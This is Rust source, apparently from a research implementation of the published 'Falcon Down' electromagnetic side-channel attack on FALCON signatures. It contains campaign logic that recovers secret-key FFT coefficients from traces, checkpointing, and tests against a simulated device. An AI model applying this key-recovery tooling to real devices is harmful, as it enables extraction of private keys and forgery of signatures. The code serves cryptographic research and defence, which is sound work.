            .iter()
            .map(|&t| {
                Ok(TargetState {
                    target: t,
                    data: Dataset::empty(n, &[t])?,
                    last_bits: None,
                    confidence: 0.0,
                    stable: 0,
                    resolved: None,
                })
            })
            .collect::<Result<Vec<_>>>()?;
        Ok(Campaign { cfg, n, states, traces_requested: 0, stats: AcquisitionStats::default() })
    }

    /// Captures requested so far.
    pub fn traces_requested(&self) -> usize {
        self.traces_requested
    }

    /// True when every coefficient converged or the budget is spent.
    pub fn is_done(&self) -> bool {
        self.traces_requested >= self.cfg.max_traces || self.pending().is_empty()
    }

    fn pending(&self) -> Vec<usize> {
        self.states.iter().filter(|s| s.resolved.is_none()).map(|s| s.target).collect()
    }

    /// Runs one batch: acquires traces for the still-unconverged
    /// coefficients only (top-up), re-attacks each and updates its
    /// convergence tracker. Returns `false` without touching the device
    /// when the campaign is already done.
    ///
    /// # Errors
    ///
    /// Propagates acquisition/bookkeeping errors; the campaign is left
    /// in its pre-batch state in that case only if the error occurred
    /// during acquisition (evaluation is infallible).
    pub fn step(&mut self, device: &mut Device, msg_rng: &mut Prng) -> Result<bool> {
        if self.is_done() {
            return Ok(false);
        }
        let _batch_span = obs::span("campaign.batch");
        let pending = self.pending();
        let batch = self.cfg.batch_size.min(self.cfg.max_traces - self.traces_requested);
        let (ds, stats) = {
            let _acquire_span = obs::span("campaign.acquire");
            Dataset::collect_screened(device, &pending, batch, msg_rng, self.cfg.screen.as_ref())?
        };
        self.traces_requested += batch;
        self.stats.merge(&stats);
        {
            let _eval_span = obs::span("campaign.evaluate");
            for state in self.states.iter_mut().filter(|s| s.resolved.is_none()) {
                let sub = ds.select_targets(&[state.target])?;
                state.data.append(&sub)?;
                evaluate(state, &self.cfg);
            }
        }
        obs::metrics().counter("campaign.batches").incr();
        Ok(true)
    }

    /// Drives [`Campaign::step`] until done and returns the report.
    ///
    /// # Errors
    ///
    /// Propagates the first batch error.
    pub fn run(&mut self, device: &mut Device, msg_rng: &mut Prng) -> Result<CampaignReport> {
        while self.step(device, msg_rng)? {}
        Ok(self.report())
    }

    /// The campaign's current (possibly partial) outcome.
    pub fn report(&self) -> CampaignReport {
        let statuses = self
            .states
            .iter()
            .map(|s| match s.resolved {
                Some((bits, confidence, traces)) => {
                    CoefficientStatus::Recovered { target: s.target, bits, confidence, traces }
                }
                None => CoefficientStatus::Unconverged {
                    target: s.target,
                    best_bits: s.last_bits.unwrap_or(0),
                    confidence: s.confidence,
                    traces: s.data.traces(),
                },
            })
            .collect();
        CampaignReport {
            n: self.n,
            statuses,
            traces_requested: self.traces_requested,
            stats: self.stats,
        }
    }

    /// Serialises the campaign state — progress counters, per-target
    /// accumulated data and convergence trackers, plus the evolving
    /// device and message-generator streams — in the versioned
    /// checkpoint format. The static configuration (key, chain,
    /// [`CampaignConfig`]) is *not* stored: resuming reconstructs those
    /// and restores this state on top.
    ///
    /// # Errors
    ///
    /// Propagates writer errors.
    pub fn write_checkpoint<W: Write>(
        &self,
        device: &Device,
        msg_rng: &Prng,
        mut w: W,
    ) -> Result<()> {
        w.write_all(CKPT_MAGIC)?;
        w.write_all(&[CKPT_VERSION])?;
        w.write_all(&(self.n as u64).to_le_bytes())?;
        w.write_all(&(self.traces_requested as u64).to_le_bytes())?;
        for v in stats_fields(&self.stats) {
            w.write_all(&(v as u64).to_le_bytes())?;
        }
        let dev_state = device.export_state();
        w.write_all(&(dev_state.len() as u64).to_le_bytes())?;
        w.write_all(&dev_state)?;
        let rng_state = msg_rng.export_state();
        w.write_all(&(rng_state.len() as u64).to_le_bytes())?;
        w.write_all(&rng_state)?;
        w.write_all(&(self.states.len() as u64).to_le_bytes())?;
        for s in &self.states {
            w.write_all(&(s.target as u64).to_le_bytes())?;
            match s.resolved {
                Some((bits, conf, traces)) => {
                    w.write_all(&[1])?;
                    w.write_all(&bits.to_le_bytes())?;
                    w.write_all(&conf.to_le_bytes())?;
                    w.write_all(&(traces as u64).to_le_bytes())?;
                }
                None => w.write_all(&[0])?,
            }
            match s.last_bits {
                Some(b) => {
                    w.write_all(&[1])?;
                    w.write_all(&b.to_le_bytes())?;
                }
                None => w.write_all(&[0])?,
            }
            w.write_all(&s.confidence.to_le_bytes())?;
            w.write_all(&(s.stable as u64).to_le_bytes())?;
            io::write_dataset(&s.data, &mut w)?;
        }
        Ok(())
    }

    /// Checkpoints to `path` atomically *and durably*: the state is
    /// written to a sibling temporary file, fsynced, renamed over the
    /// destination, and the parent directory is fsynced so the rename
    /// itself survives a crash (see [`io::atomic_write`]). A kill at any
    /// instant leaves either the previous checkpoint or the new one,
    /// never a torn or vanishing file.
    ///
    /// # Errors
    ///
    /// Returns [`Error::Persist`] naming the failed persistence step.
    pub fn checkpoint(&self, device: &Device, msg_rng: &Prng, path: &Path) -> Result<()> {
        let ckpt_span = obs::span("campaign.checkpoint");
        io::atomic_write(path, |w| self.write_checkpoint(device, msg_rng, w))?;
        drop(ckpt_span);
        let (requested, pending) = (self.traces_requested, self.pending().len());
        obs::emit(|| {
            obs::Event::new("campaign.checkpoint")
                .with_u64("traces_requested", requested as u64)
                .with_u64("pending_targets", pending as u64)
                .with_str("path", path.display().to_string())
        });
        Ok(())
    }

    /// Rebuilds a campaign from a checkpoint and rewinds `device` and
    /// `msg_rng` to their checkpointed stream positions. The caller
    /// supplies the same [`CampaignConfig`] and a device constructed
    /// with the same key, chain and seed as the original run; the
    /// resumed campaign then reproduces the uninterrupted one
    /// bit for bit.
    ///
    /// # Errors
    ///
    /// Returns [`Error::UnsupportedVersion`] for a future checkpoint
    /// version, [`Error::InvalidData`] for a malformed one, and
    /// [`Error::Io`] on truncation.
    pub fn resume<R: Read>(
        cfg: CampaignConfig,
        device: &mut Device,
        msg_rng: &mut Prng,
        mut r: R,
    ) -> Result<Campaign> {
        let mut magic = [0u8; 8];
        r.read_exact(&mut magic)?;
        if &magic[..7] != CKPT_MAGIC {
            return Err(io::bad("not a falcon-down campaign checkpoint (bad magic)"));
        }
        if magic[7] != CKPT_VERSION {
            return Err(Error::UnsupportedVersion {
                found: magic[7] as u32,
                supported: CKPT_VERSION as u32,
            });
        }
        let n = io::checked_count(io::read_u64(&mut r)?, "ring degree")?;
        if !n.is_power_of_two() || !(2..=1 << 10).contains(&n) {
            return Err(io::bad("invalid ring degree"));
        }
        let traces_requested = io::checked_count(io::read_u64(&mut r)?, "trace counter")?;
        let mut stats_v = [0usize; 8];
        for v in stats_v.iter_mut() {
            *v = io::checked_count(io::read_u64(&mut r)?, "stats field")?;
        }
        let stats = stats_from_fields(&stats_v);

        let dev_len = io::checked_count(io::read_u64(&mut r)?, "device state length")?;
        if dev_len != Device::STATE_LEN {
            return Err(io::bad("device state length mismatch"));
        }
        let mut dev_state = [0u8; Device::STATE_LEN];
        r.read_exact(&mut dev_state)?;
        let rng_len = io::checked_count(io::read_u64(&mut r)?, "rng state length")?;
        if rng_len != Prng::STATE_LEN {
            return Err(io::bad("message-rng state length mismatch"));
        }
        let mut rng_state = [0u8; Prng::STATE_LEN];
        r.read_exact(&mut rng_state)?;

        let count = io::checked_count(io::read_u64(&mut r)?, "target count")?;
        if count > n {
            return Err(io::bad("implausible target count"));
        }
        let mut states = Vec::with_capacity(count);
        for _ in 0..count {
            let target = io::checked_count(io::read_u64(&mut r)?, "target index")?;
            if target >= n {
                return Err(io::bad("target index out of range"));
            }
            let resolved = match read_u8(&mut r)? {
                0 => None,
                1 => {
                    let bits = io::read_u64(&mut r)?;
                    let conf = f64::from_bits(io::read_u64(&mut r)?);
                    let traces = io::checked_count(io::read_u64(&mut r)?, "trace count")?;
                    Some((bits, conf, traces))
                }
                _ => return Err(io::bad("malformed resolution flag")),
            };
            let last_bits = match read_u8(&mut r)? {
                0 => None,
                1 => Some(io::read_u64(&mut r)?),
                _ => return Err(io::bad("malformed winner flag")),
            };
            let confidence = f64::from_bits(io::read_u64(&mut r)?);
            let stable = io::checked_count(io::read_u64(&mut r)?, "stability counter")?;
            let data = io::read_dataset(&mut r)?;
            if data.n() != n || data.targets() != [target] {
                return Err(io::bad("embedded dataset does not match its target"));
            }
            states.push(TargetState { target, data, last_bits, confidence, stable, resolved });
        }

        // Only rewind the live streams once the whole checkpoint parsed.
        if !device.restore_state(&dev_state) {
            return Err(io::bad("malformed device state"));
        }
        *msg_rng =
            Prng::import_state(&rng_state).ok_or_else(|| io::bad("malformed message-rng state"))?;
        let campaign = Campaign { cfg, n, states, traces_requested, stats };
        obs::metrics().counter("campaign.resumes").incr();
        let pending = campaign.pending().len();
        obs::emit(|| {
            obs::Event::new("campaign.resume")
                .with_u64("traces_requested", traces_requested as u64)
                .with_u64("pending_targets", pending as u64)
        });
        Ok(campaign)
    }

    /// [`Campaign::resume`] from a checkpoint file.
    ///
    /// # Errors
    ///
    /// See [`Campaign::resume`].
    pub fn resume_from_path(
        cfg: CampaignConfig,
        device: &mut Device,
        msg_rng: &mut Prng,
        path: &Path,
    ) -> Result<Campaign> {
        let f = std::fs::File::open(path)?;
        Campaign::resume(cfg, device, msg_rng, std::io::BufReader::new(f))
    }
}

/// Re-attacks one coefficient on its accumulated data and advances its
/// convergence tracker.
fn evaluate(state: &mut TargetState, cfg: &CampaignConfig) {
    let traces = state.data.traces();
    // tanh thresholds need d > 3; a handful of traces cannot clear a
    // 99.99 % bar anyway, so skip the (expensive) re-attack entirely.
    if traces < 8 {
        return;
    }
    let r = recover_coefficient(&state.data, state.target, &cfg.attack);
    let conf = coefficient_confidence(&state.data, state.target, r.bits);
    state.confidence = conf;
    let cleared = conf >= cfg.margin * confidence::threshold_9999(traces as u64);
    if cleared && state.last_bits == Some(r.bits) {
        state.stable += 1;
    } else if cleared {
        state.stable = 1;
    } else {
        state.stable = 0;
    }
    state.last_bits = Some(r.bits);
    if state.stable >= cfg.stable_batches {
        state.resolved = Some((r.bits, conf, traces));
        obs::metrics().counter("campaign.converged").incr();
        let (target, bits) = (state.target, r.bits);
        obs::emit(|| {
            obs::Event::new("campaign.converged")
                .with_u64("target", target as u64)
                .with_u64("bits", bits)
                .with_f64("confidence", conf)
                .with_u64("traces", traces as u64)
        });
    }
}

const OCKPT_MAGIC: &[u8; 7] = b"FDNOCKP";
const OCKPT_VERSION: u8 = 1;

/// An offline campaign: the same adaptive convergence loop as
/// [`Campaign`], replayed over a fixed trace archive instead of a live
/// device. Batches "acquire" by revealing the next `batch_size` traces
/// of the archive's stable trace order, so the convergence decisions —
/// margin, stability, early stop — behave exactly as they would have
/// live, and any [`ColumnSource`] (resident or streamed) drives the
/// full campaign → key → forgery pipeline.
///
/// Targets are processed **sequentially**: one target's columns are
/// fetched (and kept) at a time, so the resident footprint over a
/// multi-gigabyte streamed archive is one target block plus the ring —
/// never the whole file. Per target, consumption stops at
/// `min(source traces, cfg.max_traces)`; `traces_requested` sums the
/// traces revealed across all targets.
///
/// Checkpoints (`FDNOCKP\x01`) record only *logical* progress — cursor,
/// per-target consumption and convergence trackers — never trace data
/// or anything source-dependent, so a campaign checkpointed against a
/// resident dataset and one checkpointed against the same file streamed
/// are byte-identical.
#[derive(Debug, Clone)]
pub struct OfflineCampaign {
    cfg: CampaignConfig,
    n: usize,
    states: Vec<TargetState>,
    /// Traces revealed so far, per target (parallel to `states`).
    consumed: Vec<usize>,
    /// Index into `states` of the target currently being evaluated;
    /// `states.len()` once every target finished.
    cursor: usize,
    traces_requested: usize,
    /// The cursor target's full single-target dataset, fetched once per
    /// target and truncated per batch. Dropped when the target
    /// finishes.
    cache: Option<Dataset>,
}

impl OfflineCampaign {
    /// Prepares an offline campaign over `src`. With empty
    /// `cfg.targets` every target of the source is attacked, in the
    /// source's order; otherwise `cfg.targets` must be a subset of the
    /// source's directory.
    ///
    /// # Errors
    ///
    /// Returns a typed error for a degenerate config (zero batch size
    /// or budget), a target absent from the source, or an empty
    /// archive.
    pub fn new<S: ColumnSource + ?Sized>(src: &S, cfg: CampaignConfig) -> Result<OfflineCampaign> {
        if cfg.batch_size == 0 || cfg.max_traces == 0 {
            return Err(Error::Acquisition(
                "campaign needs a nonzero batch size and trace budget".into(),
            ));
        }
        if src.traces() == 0 {
            return Err(Error::Acquisition("archive holds no traces".into()));
        }
        let n = src.n();
        let targets: Vec<usize> =
            if cfg.targets.is_empty() { src.targets().to_vec() } else { cfg.targets.clone() };
        let states = targets
            .iter()
            .map(|&t| {
                if !src.targets().contains(&t) {
                    return Err(Error::TargetNotInDataset { target: t });
                }
                Ok(TargetState {
                    target: t,
                    data: Dataset::empty(n, &[t])?,
                    last_bits: None,
                    confidence: 0.0,
                    stable: 0,
                    resolved: None,
                })
            })
            .collect::<Result<Vec<_>>>()?;
        let consumed = vec![0; states.len()];
        Ok(OfflineCampaign {
            cfg,
            n,
            states,
            consumed,
            cursor: 0,
            traces_requested: 0,
            cache: None,
        })
    }

    /// Traces revealed from the archive so far, summed over targets.
    pub fn traces_requested(&self) -> usize {
        self.traces_requested
    }

    /// True when every target converged or exhausted its share of the
    /// archive.
    pub fn is_done(&self) -> bool {
        self.cursor >= self.states.len()
    }

    /// Reveals one batch of the cursor target's traces and re-evaluates
    /// its convergence tracker; advances to the next target when this
    /// one resolves or runs out of traces/budget. Returns `false` when
    /// the campaign is already done.
    ///
    /// # Errors
    ///
    /// Propagates source failures (I/O on a streamed archive) and
    /// bookkeeping errors; the campaign state is unchanged in that
    /// case.
    pub fn step<S: ColumnSource + ?Sized>(&mut self, src: &S) -> Result<bool> {
        if self.is_done() {
            return Ok(false);
        }
        let _batch_span = obs::span("campaign.batch");
        let target = self.states[self.cursor].target;
        if self.cache.is_none() {
            let _fetch_span = obs::span("campaign.fetch_block");
            self.cache = Some(src.target_block(target)?.to_dataset(self.n)?);
        }
        let budget = src.traces().min(self.cfg.max_traces);
        let batch = self.cfg.batch_size.min(budget - self.consumed[self.cursor]);
        self.consumed[self.cursor] += batch;
        self.traces_requested += batch;
        let state = &mut self.states[self.cursor];
        {
            let _eval_span = obs::span("campaign.evaluate");
            // The prefix is rebuilt from the cached block, so an
            // evaluation sees byte-identical data no matter which
            // source produced the block.
            state.data = self
                .cache
                .as_ref()
                .expect("cache populated above")
                .truncated(self.consumed[self.cursor]);
            evaluate(state, &self.cfg);
        }
        if state.resolved.is_some() || self.consumed[self.cursor] >= budget {
            // Target finished: drop its trace data (the report reads
            // `consumed`), free the cache, move on.
            state.data = Dataset::empty(self.n, &[target])?;
            self.cache = None;
            self.cursor += 1;
        }
        obs::metrics().counter("campaign.batches").incr();
        Ok(true)
    }

    /// Drives [`OfflineCampaign::step`] until done and returns the
    /// report.
    ///
    /// # Errors
    ///
    /// Propagates the first step error.
    pub fn run<S: ColumnSource + ?Sized>(&mut self, src: &S) -> Result<CampaignReport> {
        while self.step(src)? {}
        Ok(self.report())
    }

    /// The campaign's current (possibly partial) outcome. Acquisition
    /// stats are all zero: the archive's screening happened (if ever)
    /// before it was written.
    pub fn report(&self) -> CampaignReport {
        let statuses = self
            .states
            .iter()
            .zip(&self.consumed)
            .map(|(s, &consumed)| match s.resolved {
                Some((bits, confidence, traces)) => {
                    CoefficientStatus::Recovered { target: s.target, bits, confidence, traces }
                }
                None => CoefficientStatus::Unconverged {
                    target: s.target,
                    best_bits: s.last_bits.unwrap_or(0),
                    confidence: s.confidence,
                    traces: consumed,
                },
            })
            .collect();
        CampaignReport {
            n: self.n,
            statuses,
            traces_requested: self.traces_requested,
            stats: AcquisitionStats::default(),
        }
    }

    /// Serialises the logical progress (`FDNOCKP\x01`): cursor,
    /// per-target consumption and convergence trackers. No trace data,
    /// no source identity — resuming requires the same archive and
    /// config, and the checkpoint bytes are identical whether the
    /// archive was resident or streamed.
    ///
    /// # Errors
    ///
    /// Propagates writer errors.
    pub fn write_checkpoint<W: Write>(&self, mut w: W) -> Result<()> {
        w.write_all(OCKPT_MAGIC)?;
        w.write_all(&[OCKPT_VERSION])?;
        w.write_all(&(self.n as u64).to_le_bytes())?;
        w.write_all(&(self.cursor as u64).to_le_bytes())?;
        w.write_all(&(self.traces_requested as u64).to_le_bytes())?;
        w.write_all(&(self.states.len() as u64).to_le_bytes())?;
        for (s, &consumed) in self.states.iter().zip(&self.consumed) {
            w.write_all(&(s.target as u64).to_le_bytes())?;
            w.write_all(&(consumed as u64).to_le_bytes())?;
            match s.resolved {
                Some((bits, conf, traces)) => {
                    w.write_all(&[1])?;
                    w.write_all(&bits.to_le_bytes())?;
                    w.write_all(&conf.to_le_bytes())?;
                    w.write_all(&(traces as u64).to_le_bytes())?;
                }
                None => w.write_all(&[0])?,
            }
            match s.last_bits {
                Some(b) => {
                    w.write_all(&[1])?;
                    w.write_all(&b.to_le_bytes())?;
                }
                None => w.write_all(&[0])?,
            }
            w.write_all(&s.confidence.to_le_bytes())?;
            w.write_all(&(s.stable as u64).to_le_bytes())?;
        }
        Ok(())
    }

    /// Checkpoints to `path` atomically and durably (see
    /// [`io::atomic_write`]).
    ///
    /// # Errors
    ///
    /// Returns [`Error::Persist`] naming the failed persistence step.
    pub fn checkpoint(&self, path: &Path) -> Result<()> {
        let ckpt_span = obs::span("campaign.checkpoint");
        io::atomic_write(path, |w| self.write_checkpoint(w))?;
        drop(ckpt_span);
        let (requested, cursor) = (self.traces_requested, self.cursor);
        obs::emit(|| {
            obs::Event::new("campaign.offline_checkpoint")
                .with_u64("traces_requested", requested as u64)
                .with_u64("cursor", cursor as u64)
                .with_str("path", path.display().to_string())
        });
        Ok(())
    }

    /// Rebuilds an offline campaign from a checkpoint. The caller
    /// supplies the same source (or a byte-identical copy — resident
    /// vs streamed does not matter) and config as the original run;
    /// the resumed campaign reproduces the uninterrupted one bit for
    /// bit.
    ///
    /// # Errors
    ///
    /// Returns [`Error::UnsupportedVersion`] for a future version,
    /// [`Error::InvalidData`] for a malformed checkpoint or one that
    /// disagrees with the source/config, and [`Error::Io`] on
    /// truncation.
    pub fn resume<S: ColumnSource + ?Sized, R: Read>(
        src: &S,
        cfg: CampaignConfig,
        mut r: R,
    ) -> Result<OfflineCampaign> {
        let mut magic = [0u8; 8];
        r.read_exact(&mut magic)?;
        if &magic[..7] != OCKPT_MAGIC {
            return Err(io::bad("not a falcon-down offline-campaign checkpoint (bad magic)"));
        }
        if magic[7] != OCKPT_VERSION {
            return Err(Error::UnsupportedVersion {
                found: magic[7] as u32,
                supported: OCKPT_VERSION as u32,
            });
        }
        let mut fresh = OfflineCampaign::new(src, cfg)?;
        let n = io::checked_count(io::read_u64(&mut r)?, "ring degree")?;
        if n != fresh.n {
            return Err(io::bad("checkpoint ring degree disagrees with the source"));
        }
        let cursor = io::checked_count(io::read_u64(&mut r)?, "cursor")?;
        let traces_requested = io::checked_count(io::read_u64(&mut r)?, "trace counter")?;
        let count = io::checked_count(io::read_u64(&mut r)?, "target count")?;
        if count != fresh.states.len() || cursor > count {
            return Err(io::bad("checkpoint target list disagrees with the config"));
        }
        for (s, consumed) in fresh.states.iter_mut().zip(fresh.consumed.iter_mut()) {
            let target = io::checked_count(io::read_u64(&mut r)?, "target index")?;
            if target != s.target {
                return Err(io::bad("checkpoint target order disagrees with the config"));
            }
            *consumed = io::checked_count(io::read_u64(&mut r)?, "consumed traces")?;
            s.resolved = match read_u8(&mut r)? {
                0 => None,
                1 => {
                    let bits = io::read_u64(&mut r)?;
                    let conf = f64::from_bits(io::read_u64(&mut r)?);
                    let traces = io::checked_count(io::read_u64(&mut r)?, "trace count")?;
                    Some((bits, conf, traces))
                }
                _ => return Err(io::bad("malformed resolution flag")),
            };
            s.last_bits = match read_u8(&mut r)? {
                0 => None,
                1 => Some(io::read_u64(&mut r)?),
                _ => return Err(io::bad("malformed winner flag")),
            };
            s.confidence = f64::from_bits(io::read_u64(&mut r)?);
            s.stable = io::checked_count(io::read_u64(&mut r)?, "stability counter")?;
        }
        fresh.cursor = cursor;
        fresh.traces_requested = traces_requested;
        obs::metrics().counter("campaign.resumes").incr();
        Ok(fresh)
    }

    /// [`OfflineCampaign::resume`] from a checkpoint file.
    ///
    /// # Errors
    ///
    /// See [`OfflineCampaign::resume`].
    pub fn resume_from_path<S: ColumnSource + ?Sized>(
        src: &S,
        cfg: CampaignConfig,
        path: &Path,
    ) -> Result<OfflineCampaign> {
        let f = std::fs::File::open(path)?;
        OfflineCampaign::resume(src, cfg, std::io::BufReader::new(f))
    }
}

fn read_u8<R: Read>(r: &mut R) -> Result<u8> {
    let mut b = [0u8; 1];
    r.read_exact(&mut b)?;
    Ok(b[0])
}

fn stats_fields(s: &AcquisitionStats) -> [usize; 8] {
    [
        s.requested,
        s.kept,
        s.dropped_trigger,
        s.discarded_saturated,
        s.discarded_dead,
        s.discarded_misaligned,
        s.realigned,
        s.winsorized,
    ]
}

fn stats_from_fields(v: &[usize; 8]) -> AcquisitionStats {
    AcquisitionStats {
        requested: v[0],
        kept: v[1],
        dropped_trigger: v[2],
        discarded_saturated: v[3],
        discarded_dead: v[4],
        discarded_misaligned: v[5],
        realigned: v[6],
        winsorized: v[7],
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use falcon_emsim::{FaultModel, LeakageModel, MeasurementChain, Scope};
    use falcon_sig::{KeyPair, LogN};

    fn bench(noise: f64, fm: FaultModel, seed: &[u8]) -> (Device, Vec<u64>) {
        let mut rng = Prng::from_seed(seed);
        let kp = KeyPair::generate(LogN::new(3).unwrap(), &mut rng);
        let truth: Vec<u64> = kp.signing_key().f_fft().iter().map(|x| x.to_bits()).collect();
        let chain = MeasurementChain {
            model: LeakageModel::hamming_weight(1.0, noise),
            lowpass: 0.0,
            scope: Scope { enabled: false, ..Default::default() },
            faults: fm,
        };
        (Device::new(kp.into_parts().0, chain, b"campaign bench"), truth)
    }

    fn small_cfg() -> CampaignConfig {
        CampaignConfig { batch_size: 60, max_traces: 600, ..Default::default() }
    }

    #[test]
    fn clean_campaign_recovers_all_and_stops_early() {
        let (mut dev, truth) = bench(1.0, FaultModel::default(), b"clean campaign");
        let mut msgs = Prng::from_seed(b"clean campaign msgs");
        let mut c = Campaign::new(8, small_cfg()).unwrap();
        let report = c.run(&mut dev, &mut msgs).unwrap();
        assert!(report.is_complete(), "unconverged: {report:?}");
        assert_eq!(report.recovered_bits().unwrap(), truth);
        // Early stop: this regime converges in a few batches, well
        // before the budget.
        assert!(
            report.traces_requested < 600,
            "campaign should stop before the budget: {}",
            report.traces_requested
        );
        for s in &report.statuses {
            let CoefficientStatus::Recovered { traces, .. } = s else { unreachable!() };
            assert!(*traces <= report.stats.kept);
        }
    }

    #[test]
    fn budget_exhaustion_yields_partial_report() {
        // Heavy noise and a tiny budget: nothing can converge.
        let (mut dev, _) = bench(30.0, FaultModel::default(), b"partial campaign");
        let mut msgs = Prng::from_seed(b"partial msgs");
        let cfg = CampaignConfig {
            batch_size: 20,
            max_traces: 40,
            targets: vec![0, 5],
            ..Default::default()
        };
        let mut c = Campaign::new(8, cfg).unwrap();
        let report = c.run(&mut dev, &mut msgs).unwrap();
        assert!(!report.is_complete());
        assert_eq!(report.recovered_bits(), None);
        assert_eq!(report.traces_requested, 40);
        assert_eq!(report.statuses.len(), 2);
        for s in &report.statuses {
            assert!(!s.is_recovered());
        }
    }

    #[test]
    fn degenerate_config_is_rejected() {
        assert!(Campaign::new(8, CampaignConfig { batch_size: 0, ..Default::default() }).is_err());
        assert!(Campaign::new(8, CampaignConfig { max_traces: 0, ..Default::default() }).is_err());
    }

    #[test]
    fn checkpoint_roundtrips_in_memory() {
        let (mut dev, _) = bench(2.0, FaultModel::noisy_bench(), b"ckpt campaign");
        let mut msgs = Prng::from_seed(b"ckpt msgs");
        let mut c = Campaign::new(8, small_cfg()).unwrap();
        c.step(&mut dev, &mut msgs).unwrap();
        c.step(&mut dev, &mut msgs).unwrap();
        let mut buf = Vec::new();
        c.write_checkpoint(&dev, &msgs, &mut buf).unwrap();

        let (mut dev2, _) = bench(2.0, FaultModel::noisy_bench(), b"ckpt campaign");
        let mut msgs2 = Prng::from_seed(b"unrelated, will be rewound");
        let mut resumed = Campaign::resume(small_cfg(), &mut dev2, &mut msgs2, &buf[..]).unwrap();
        assert_eq!(resumed.traces_requested(), c.traces_requested());

        // Both campaigns continue identically.
        let a = c.run(&mut dev, &mut msgs).unwrap();
        let b = resumed.run(&mut dev2, &mut msgs2).unwrap();
        assert_eq!(a, b);
    }

    #[test]
    fn offline_campaign_recovers_from_an_archive() {
        let (mut dev, truth) = bench(1.0, FaultModel::default(), b"offline campaign");
        let mut msgs = Prng::from_seed(b"offline msgs");
        let targets: Vec<usize> = (0..8).collect();
        let ds = Dataset::collect(&mut dev, &targets, 400, &mut msgs);
        let mut c = OfflineCampaign::new(&ds, small_cfg()).unwrap();
        let report = c.run(&ds).unwrap();
        assert!(report.is_complete(), "unconverged: {report:?}");
        assert_eq!(report.recovered_bits().unwrap(), truth);
        // Early stop per target: nowhere near 8 × 400 traces revealed.
        assert!(report.traces_requested < 8 * 400);
    }

    #[test]
    fn offline_checkpoint_resumes_bit_identically() {
        let (mut dev, _) = bench(1.0, FaultModel::default(), b"offline ckpt");
        let mut msgs = Prng::from_seed(b"offline ckpt msgs");
        let targets: Vec<usize> = (0..8).collect();
        let ds = Dataset::collect(&mut dev, &targets, 400, &mut msgs);
        let mut c = OfflineCampaign::new(&ds, small_cfg()).unwrap();
        for _ in 0..3 {
            assert!(c.step(&ds).unwrap());
        }
        let mut ckpt = Vec::new();
        c.write_checkpoint(&mut ckpt).unwrap();
        let mut resumed = OfflineCampaign::resume(&ds, small_cfg(), &ckpt[..]).unwrap();
        assert_eq!(resumed.traces_requested(), c.traces_requested());
        let a = c.run(&ds).unwrap();
        let b = resumed.run(&ds).unwrap();
        assert_eq!(a, b);
        // Final checkpoints are byte-equal too.
        let (mut fa, mut fb) = (Vec::new(), Vec::new());
        c.write_checkpoint(&mut fa).unwrap();
        resumed.write_checkpoint(&mut fb).unwrap();
        assert_eq!(fa, fb);
    }

    #[test]
    fn offline_campaign_rejects_bad_inputs() {
        let (mut dev, _) = bench(1.0, FaultModel::default(), b"offline bad");
        let mut msgs = Prng::from_seed(b"offline bad msgs");
        let ds = Dataset::collect(&mut dev, &[0, 3], 20, &mut msgs);
        // Target not in the archive.
        let cfg = CampaignConfig { targets: vec![5], ..small_cfg() };
        assert!(matches!(
            OfflineCampaign::new(&ds, cfg),
            Err(Error::TargetNotInDataset { target: 5 })
        ));
        // Degenerate budget.
        assert!(OfflineCampaign::new(&ds, CampaignConfig { max_traces: 0, ..small_cfg() }).is_err());
        // Truncated checkpoint.
        let mut c = OfflineCampaign::new(&ds, small_cfg()).unwrap();
        c.step(&ds).unwrap();
        let mut ckpt = Vec::new();
        c.write_checkpoint(&mut ckpt).unwrap();
        for cut in [0, 7, 8, 20, ckpt.len() / 2, ckpt.len() - 1] {
            assert!(
                OfflineCampaign::resume(&ds, small_cfg(), &ckpt[..cut]).is_err(),
                "cut at {cut} must fail"
            );
        }
        // Future version.
        let mut future = ckpt.clone();
        future[7] = 9;
        assert!(matches!(
            OfflineCampaign::resume(&ds, small_cfg(), &future[..]),
            Err(Error::UnsupportedVersion { found: 9, .. })
        ));
    }

    #[test]
    fn checkpoint_rejects_corruption_and_truncation() {
        let (mut dev, _) = bench(2.0, FaultModel::default(), b"ckpt corrupt");
        let mut msgs = Prng::from_seed(b"ckpt corrupt msgs");
        let mut c = Campaign::new(8, small_cfg()).unwrap();
        c.step(&mut dev, &mut msgs).unwrap();
        let mut buf = Vec::new();
        c.write_checkpoint(&dev, &msgs, &mut buf).unwrap();

        let resume = |bytes: &[u8]| {
            let (mut d, _) = bench(2.0, FaultModel::default(), b"ckpt corrupt");
            let mut m = Prng::from_seed(b"x");
            Campaign::resume(small_cfg(), &mut d, &mut m, bytes)
        };
        // Bad magic and future version.
        let mut bad = buf.clone();
        bad[0] ^= 0xFF;
        assert!(resume(&bad).is_err());
        let mut future = buf.clone();
        future[7] = 99;
        assert!(matches!(resume(&future), Err(Error::UnsupportedVersion { found: 99, .. })));
        // Truncation anywhere must error, never panic.
        for cut in [8, 9, 40, 100, buf.len() / 2, buf.len() - 1] {
            assert!(resume(&buf[..cut]).is_err(), "cut at {cut} must fail");
        }
    }
}
