//! The *Falcon Down* attack (Karabulut & Aysu, DAC 2021): differential
//! electromagnetic analysis of FALCON's floating-point FFT.
//!
//! The attack observes the signing computation `FFT(c) ⊙ FFT(f)` — a
//! known hashed message multiplied pointwise with the secret key's
//! transform — and recovers every 64-bit coefficient of `FFT(f)` by
//! divide-and-conquer over the emulated float's sign, exponent and
//! mantissa fields. Multiplication targets alone suffer shift-related
//! **false positives**; the novel **extend-and-prune** strategy resolves
//! them against the schoolbook multiplication's intermediate additions.
//! The inverse FFT then yields `f`, the public key yields `g = h·f`, the
//! NTRU equation yields `(F, G)`, and the adversary signs arbitrary
//! messages.
//!
//! # Quick start
//!
//! ```
//! use falcon_dema::acquire::Dataset;
//! use falcon_dema::attack::{recover_coefficient, AttackConfig};
//! use falcon_emsim::{Device, LeakageModel, MeasurementChain, Scope};
//! use falcon_sig::{rng::Prng, KeyPair, LogN};
//!
//! // Victim key and observed device (tiny degree for the doctest).
//! let mut rng = Prng::from_seed(b"doc seed");
//! let kp = KeyPair::generate(LogN::new(3).unwrap(), &mut rng);
//! let chain = MeasurementChain {
//!     model: LeakageModel::hamming_weight(1.0, 0.5),
//!     lowpass: 0.0,
//!     scope: Scope { enabled: false, ..Default::default() },
//!     ..Default::default()
//! };
//! let truth = kp.signing_key().f_fft()[0].to_bits();
//! let mut device = Device::new(kp.into_parts().0, chain, b"bench");
//!
//! // Acquire traces and recover one coefficient of FFT(f).
//! let mut msgs = Prng::from_seed(b"messages");
//! let ds = Dataset::collect(&mut device, &[0], 200, &mut msgs);
//! let r = recover_coefficient(&ds, 0, &AttackConfig::default());
